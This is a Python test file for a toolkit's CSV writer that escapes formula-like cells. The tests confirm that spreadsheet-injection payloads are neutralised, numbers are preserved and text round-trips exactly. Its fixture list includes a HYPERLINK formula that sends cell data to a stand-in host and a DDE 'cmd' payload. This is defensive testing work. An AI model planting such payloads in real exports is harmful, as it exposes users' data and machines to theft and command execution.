"""The toolkit's one CSV writer (toolkit.outputs.spreadsheet): no cell a spreadsheet would run
as a formula, numbers kept as numbers, UTF-8 with a BOM, and the text read back exactly."""

from __future__ import annotations

import csv
import datetime as dt

import polars as pl
from hypothesis import given
from hypothesis import strategies as st

from toolkit.outputs import (
    BOM,
    FORMULA_CHARACTERS,
    read_csv,
    restore_text,
    safe_cell,
    safe_text,
    write_csv,
    write_rows,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''-twice",
    "قال الرئيس",
    "=قال",
    "",
]


def _cells(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_text_cells_never_start_a_formula_and_numbers_stay_numbers(tmp_path):
    frame = pl.DataFrame(
        {
            "text": HOSTILE,
            "score": [-1.5 - i for i in range(len(HOSTILE))],
            "count": [-i for i in range(len(HOSTILE))],
            "tags": [["=x", "-y"]] * len(HOSTILE),
            "day": [dt.date(2021, 1, 2)] * len(HOSTILE),
            "kind": pl.Series(["-a"] * len(HOSTILE), dtype=pl.Categorical),
        }
    )
    path = tmp_path / "t.csv"
    assert write_csv(frame, path) == len(HOSTILE)
    assert path.read_bytes().startswith(BOM)
    header, *rows = _cells(path)
    assert header == frame.columns
    for row in rows:
        text, score, count, tags, day, kind = row
        assert not text.startswith(tuple(FORMULA_CHARACTERS)), text
        assert not kind.startswith(tuple(FORMULA_CHARACTERS)) and kind == "'-a"
        assert float(score) < 0 and int(count) <= 0  # numbers, negative ones too
        assert tags == '["=x","-y"]' and day == "2021-01-02"
    assert [restore_text(r[0]) for r in rows] == HOSTILE
    back = read_csv(path)
    assert back["text"].fill_null("").to_list() == HOSTILE


def test_frames_written_one_after_another_have_one_header_and_one_bom(tmp_path):
    path = tmp_path / "t.csv"
    parts = [pl.DataFrame({"a": ["=1"], "b": [1]}), pl.DataFrame({"a": ["-2"], "b": [-2]})]
    assert write_csv(iter(parts), path) == 2
    assert path.read_bytes().count(BOM) == 1
    assert _cells(path) == [["a", "b"], ["'=1", "1"], ["'-2", "-2"]]


def test_rows_written_with_the_csv_module(tmp_path):
    path = write_rows(tmp_path / "r.csv", ["=name", "score"], [["@x", -0.25], [None, 3]])
    assert path.read_bytes().startswith(BOM)
    assert _cells(path) == [["'=name", "score"], ["'@x", "-0.25"], ["", "3"]]
    assert read_csv(path).columns == ["=name", "score"]
    assert [safe_cell(v) for v in (False, 2, "-", {"a": "=b"})] == [
        "false",
        "2",
        "'-",
        '{"a": "=b"}',
    ]


@given(st.text())
def test_property_any_text_is_written_safe_and_read_back_exactly(text):
    written = safe_text(text)
    assert not written.startswith(tuple(FORMULA_CHARACTERS))
    assert restore_text(written) == text
